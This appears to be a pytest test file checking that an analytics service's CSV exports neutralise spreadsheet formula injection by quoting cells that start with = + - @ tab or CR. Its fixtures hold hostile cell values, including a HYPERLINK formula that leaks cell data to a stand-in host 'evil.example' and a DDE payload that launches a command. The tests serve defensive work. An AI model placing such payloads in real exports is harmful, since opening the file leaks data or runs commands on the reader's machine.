"""Every CSV the read service sends neutralises spreadsheet formulas (OWASP "CSV
Injection"): text that begins with = + - @ tab or CR gets a leading single quote; typed
numbers, negative ones too, stay numbers."""

from __future__ import annotations

from datetime import date

import pytest

from api.read.render import csv_text
from api.read.sketches import Part
from tests.unit.api.read.conftest import ALL_TOKEN, make_full_world
from tests.unit.api.read.fakes import MemoryViews

DAY = date(2026, 11, 30)
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
AUTH = {"Authorization": f"Bearer {ALL_TOKEN}"}
HOSTILE_PAGES = {LINK: Part(visitors=4, pageviews=9), "+1+2": Part(visitors=3, pageviews=3),
                 "-2+3": Part(visitors=2, pageviews=2), "@SUM(A1:A9)": Part(visitors=1),
                 "\t=1": Part(visitors=1), "\r=1": Part(visitors=1),
                 "/pricing": Part(visitors=1, pageviews=1)}


def lines(*rows: str) -> str:
    return "".join(row + "\r\n" for row in rows)


def test_cells_that_would_run_as_formulas_are_quoted_and_numbers_are_not():
    rows = [{"page": "=1+2", "visitors": -3, "rate": -0.25},
            {"page": "+cmd", "visitors": 0, "rate": None},
            {"page": "-10", "visitors": 1, "rate": 1.5},
            {"page": "@SUM(A1)", "visitors": True, "rate": 0.0},
            {"page": "\tx", "visitors": 2, "rate": 2},
            {"page": "\rx", "visitors": 3, "rate": 3},
            {"page": "a=b, -c", "visitors": 4, "rate": 4},
            {"page": "", "visitors": 5, "rate": 5}]
    assert csv_text(["page", "visitors", "rate"], rows) == lines(
        "page,visitors,rate",
        "'=1+2,-3,-0.25",
        "'+cmd,0,",
        "'-10,1,1.5",
        "'@SUM(A1),True,0.0",
        "'\tx,2,2",
        "\"'\rx\",3,3",
        '"a=b, -c",4,4',
        ",5,5")


def test_a_header_that_would_run_is_quoted_too():
    assert csv_text(["=x", "y"], [{"=x": 1, "y": "@"}]) == lines("'=x,y", "1,'@")


def test_a_line_break_inside_a_cell_cannot_start_a_new_row():
    # unquoted, a reader would begin a row at the CR with the cell "=1+2"
    assert csv_text(["page"], [{"page": "/a\r=1+2"}, {"page": "/b\n@x"}]) == lines(
        "page", '"/a\r=1+2"', '"/b\n@x"')


@pytest.fixture
def world(tmp_path):
    views = MemoryViews(
        closed={("shop.example", DAY): Part(visitors=9, pageviews=20, sessions=5,
                                            engaged_sessions=3, bounces=2, duration_s=50.0,
                                            session_pageviews=20)},
        breakdowns={("shop.example", DAY, "page"): HOSTILE_PAGES,
                    ("shop.example", DAY, "source"): {
                        "=cmd|' /C calc'!A0": Part(visitors=2, sessions=2, bounces=1,
                                                   duration_s=30.0)}})
    return make_full_world(tmp_path, views)


PAGES_CSV = lines('page,visitors,pageviews',
                  '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",4,9',
                  "'+1+2,3,3",
                  "'-2+3,2,2",
                  "'\t=1,1,0",
                  "\"'\r=1\",1,0",
                  "/pricing,1,1",
                  "'@SUM(A1:A9),1,0")


def test_a_breakdown_report_as_csv(world):
    result = world.client.simulate_get("/api/v1/reports/breakdown", headers=AUTH, params={
        "site_id": "shop.example", "date_range": "custom", "start": DAY.isoformat(),
        "end": DAY.isoformat(), "dimension": "page", "metrics": "visitors,pageviews",
        "order_by": "-visitors", "format": "csv"})
    assert result.status_code == 200
    assert result.headers["content-type"] == "text/csv; charset=utf-8"
    assert result.text == PAGES_CSV


def test_the_same_report_as_json_keeps_the_values_as_sent(world):
    result = world.client.simulate_get("/api/v1/reports/breakdown", headers=AUTH, params={
        "site_id": "shop.example", "date_range": "custom", "start": DAY.isoformat(),
        "end": DAY.isoformat(), "dimension": "page", "metrics": "visitors"})
    assert result.json["rows"][0] == {"page": LINK, "visitors": 4}


def test_the_tableau_exports_as_csv(world):
    params = {"site_id": "shop.example", "start": DAY.isoformat(), "end": DAY.isoformat(),
              "format": "csv"}
    pages = world.client.simulate_get("/api/v1/export/pages", headers=AUTH, params=params)
    assert pages.status_code == 200
    assert pages.text == lines(
        "date,page,visitors,pageviews",
        '2026-11-30,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",4,9',
        "2026-11-30,'+1+2,3,3",
        "2026-11-30,'-2+3,2,2",
        "2026-11-30,'\t=1,1,0",
        "2026-11-30,\"'\r=1\",1,0",
        "2026-11-30,/pricing,1,1",
        "2026-11-30,'@SUM(A1:A9),1,0")
    sources = world.client.simulate_get("/api/v1/export/sources", headers=AUTH, params=params)
    assert sources.text == lines("date,source,visitors,sessions,bounce_rate,visit_duration",
                                 "2026-11-30,'=cmd|' /C calc'!A0,2,2,0.5,15.0")


def test_a_job_result_as_csv(world):
    jobs = world.client.simulate_post("/api/v1/jobs", headers=AUTH, json={
        "site_id": "shop.example", "kind": "breakdown", "start": "2026-11-01",
        "end": "2026-11-30", "dimension": "prop:plan", "metrics": ["visitors", "events"]})
    assert jobs.status_code == 202
    job_id = jobs.json["job_id"]
    world.jobs.succeed(job_id, ["prop:plan", "visitors", "events"],
                       [["@risk", 3, -1], ["-1", 2, 0], ["pro", 1, 2.5]])
    result = world.client.simulate_get(f"/api/v1/jobs/{job_id}/result", headers=AUTH,
                                       params={"format": "csv"})
    assert (result.status_code, result.text) == (200, lines("prop:plan,visitors,events",
                                                            "'@risk,3,-1",
                                                            "'-1,2,0",
                                                            "pro,1,2.5"))


def test_realtime_as_csv_keeps_its_numbers(world):
    result = world.client.simulate_get("/api/v1/realtime", headers=AUTH,
                                       params={"site_id": "shop.example", "format": "csv"})
    rows = result.text.split("\r\n")
    assert rows[0] == "minute,visitors,pageviews,events" and len(rows) == 32
    assert all(r.endswith(",0,0,0") for r in rows[1:-1]) and rows[-1] == ""
